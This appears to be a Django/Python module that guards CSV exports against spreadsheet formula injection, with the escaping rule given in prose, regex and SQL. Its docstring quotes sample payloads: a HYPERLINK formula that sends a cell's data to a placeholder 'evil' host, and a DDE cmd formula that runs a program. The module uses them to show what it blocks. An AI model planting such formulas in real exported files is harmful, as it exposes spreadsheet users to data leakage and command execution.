"""CSV cells that are safe to open in a spreadsheet (no formula injection).

This module is the platform's one CSV writer: every CSV it writes (web downloads, the API,
management commands, benchmarks' outputs) is written through :func:`safe_writer`,
:func:`safe_dict_writer`, :func:`csv_text` or :func:`frame_csv`, and every CSV a page or the API
offers as a file is answered by :func:`csv_attachment`; ``tests/test_csv_writers.py`` fails on
any ``csv.writer`` / ``csv.DictWriter`` / ``DataFrame.to_csv`` outside this file. It imports no
other module of the project, so every app can use it (analysis/downloads.py adds the export
audit log for researchers' downloads). So a rationale
``=HYPERLINK("http://evil/?"&A1)``, an imported id ``=cmd|' /C calc'!A0`` or a source ``@SUM(…)``
is shown by Excel / LibreOffice / Google Sheets as text instead of being evaluated.

The rule, exactly (framework-free so it can be re-expressed elsewhere, e.g. in SQL for a
PostgreSQL ``COPY`` export):

1. Only *text* cells are touched. Numbers (``int``, ``float``, ``Decimal``; not ``bool``),
   ``None`` and empty strings are written as they are: a score ``-0.5`` is a number, not a
   formula.
2. A text cell is *dangerous* when its first character is one of
   ``=`` ``+`` ``-`` ``@``, tab (0x09) or carriage return (0x0D) — the OWASP "CSV Injection"
   list — or one of their full-width look-alikes ``＝`` (U+FF1D) ``＋`` (U+FF0B) ``－`` (U+FF0D)
   ``＠`` (U+FF20), which some spreadsheet locales and input methods turn into the ASCII sign.
3. A dangerous text cell that is a plain decimal number in ASCII (``-0.5``, ``+3``, ``-1e-3``;
   regular expression :data:`NUMBER`) is left alone: spreadsheets read it as that number, and
   text columns such as ``bias`` in a report must stay numeric.
4. Every other dangerous cell gets one apostrophe ``'`` in front. Spreadsheets show the cell as
   text; a program reading the CSV sees the apostrophe and the original text after it.

As SQL (PostgreSQL, for a text expression ``v``)::

    CASE WHEN v ~ '^[-=+@\\t\\r＝＋－＠]'
              AND v !~ '^[+-]?([0-9]+\\.?[0-9]*|\\.[0-9]+)([eE][+-]?[0-9]+)?$'
         THEN '''' || v ELSE v END
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal
from typing import TYPE_CHECKING, Any, overload

from django.http import HttpResponse, StreamingHttpResponse

if TYPE_CHECKING:
    import pandas as pd

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"

DANGEROUS_FIRST = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
NUMBER = re.compile(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
PREFIX = "'"


def is_dangerous(text: str) -> bool:
    """True when a spreadsheet could read this text cell as a formula (rules 2 and 3)."""
    return bool(text) and text[0] in DANGEROUS_FIRST and NUMBER.fullmatch(text) is None


def safe_cell(value: Any) -> Any:
    """The value to write into a CSV cell: text that could start a formula gets a leading
    apostrophe; numbers, None and everything else pass unchanged (non-text values are turned
    into text by the csv module with ``str()``, so they are checked as that text)."""
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    text = value if isinstance(value, str) else str(value)
    if is_dangerous(text):
        return PREFIX + text
    return value


def reversible_cell(text: str) -> str:
    """`safe_cell` for text that must come back exactly when the file is read again (a released
    dataset that is re-imported): besides the dangerous cells, a text that already starts with
    apostrophes before a dangerous character gets one more, so :func:`cell_unescaped` removes
    exactly the one added here and nothing a writer typed."""
    return PREFIX + text if _looks_escaped(text) else text


def cell_unescaped(text: str) -> str:
    """The inverse of :func:`reversible_cell`: one leading apostrophe off a cell that starts
    with apostrophes before a dangerous character; every other text as it is."""
    return text[1:] if text.startswith(PREFIX) and _looks_escaped(text) else text


def _looks_escaped(text: str) -> bool:
    return is_dangerous(text.lstrip(PREFIX))


_PLAIN = frozenset({int, float, Decimal, bool, type(None)})


def safe_row(row: Iterable[Any]) -> list[Any]:
    """safe_cell on every cell, with the common cases inlined: exports write hundreds of
    thousands of rows, and a function call per cell tripled the time spent formatting them."""
    return [
        v
        if type(v) in _PLAIN or (type(v) is str and (not v or v[0] not in DANGEROUS_FIRST))
        else safe_cell(v)
        for v in row
    ]


def safe_rows(rows: Iterable[Iterable[Any]]) -> Iterator[list[Any]]:
    for row in rows:
        yield safe_row(row)


class _SafeWriter:
    """csv.writer with every cell passed through safe_cell."""

    def __init__(self, writer) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        self._writer.writerows(safe_rows(rows))


class _SafeDictWriter:
    """csv.DictWriter with every value (and the header) passed through safe_cell."""

    def __init__(self, writer: csv.DictWriter) -> None:
        self._writer = writer

    def writeheader(self):
        return self._writer.writer.writerow(safe_row(self._writer.fieldnames))

    def writerow(self, row: dict[str, Any]):
        return self._writer.writerow({k: safe_cell(v) for k, v in row.items()})

    def writerows(self, rows: Iterable[dict[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(file, **kwargs) -> _SafeWriter:
    """``csv.writer(file, **kwargs)`` whose rows (header included) are neutralised."""
    return _SafeWriter(csv.writer(file, **kwargs))


class _ReversibleWriter:
    """csv.writer for text that must read back exactly (reversible_cell on every cell)."""

    def __init__(self, writer) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[str]):
        return self._writer.writerow([reversible_cell(cell) for cell in row])


def reversible_writer(file, **kwargs) -> _ReversibleWriter:
    """``csv.writer(file, **kwargs)`` for a file that is read back (a released dataset): its
    text cells are made safe with :func:`reversible_cell`, which :func:`cell_unescaped` undoes."""
    return _ReversibleWriter(csv.writer(file, **kwargs))


def safe_dict_writer(file, fieldnames: list[str], **kwargs) -> _SafeDictWriter:
    """``csv.DictWriter(file, fieldnames, **kwargs)`` whose cells are neutralised."""
    return _SafeDictWriter(csv.DictWriter(file, fieldnames=fieldnames, **kwargs))


def frame_csv(df: pd.DataFrame, **kwargs: Any) -> str:
    """``df.to_csv(index=False, **kwargs)`` of the neutralised frame, as text (floats keep
    pandas' full, round-tripping precision unless ``float_format`` says otherwise)."""
    kwargs.setdefault("index", False)
    text: str = safe_frame(df).to_csv(**kwargs)
    return text


def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of a pandas DataFrame ready for ``to_csv``: text cells and column names
    neutralised, numeric columns untouched (they are numbers, whatever their sign)."""
    from pandas.api.types import is_bool_dtype, is_numeric_dtype

    out = df.copy()
    for column in out.columns:
        dtype = out[column].dtype
        if not is_numeric_dtype(dtype) or is_bool_dtype(dtype):
            # Object, string and categorical columns may hold text; numbers pass unchanged.
            out[column] = out[column].astype(object).map(safe_cell, na_action="ignore")
    out.columns = [safe_cell(c) for c in out.columns]
    if out.index.name is not None:
        out.index.name = safe_cell(out.index.name)
    return out


def csv_text(header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> str:
    """A header and its rows as CSV text, every cell made safe."""
    buffer = io.StringIO()
    writer = safe_writer(buffer)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


def attachment_disposition(filename: str) -> str:
    """The Content-Disposition of a file to save under ``filename`` (a name the code built, such
    as a slug: it is not quoted further)."""
    return f'attachment; filename="{filename}"'


@overload
def csv_attachment(body: str, *, filename: str) -> HttpResponse: ...
@overload
def csv_attachment(body: Iterator[str], *, filename: str) -> StreamingHttpResponse: ...
def csv_attachment(
    body: str | Iterator[str], *, filename: str
) -> HttpResponse | StreamingHttpResponse:
    """A CSV file to save: a whole body (from :func:`csv_text` or :func:`frame_csv`), or chunks
    streamed as they are produced (each written by this module's writers)."""
    response: HttpResponse | StreamingHttpResponse
    if isinstance(body, str):
        response = HttpResponse(body, content_type=CSV_CONTENT_TYPE)
    else:
        response = StreamingHttpResponse(body, content_type=CSV_CONTENT_TYPE)
    response["Content-Disposition"] = attachment_disposition(filename)
    return response
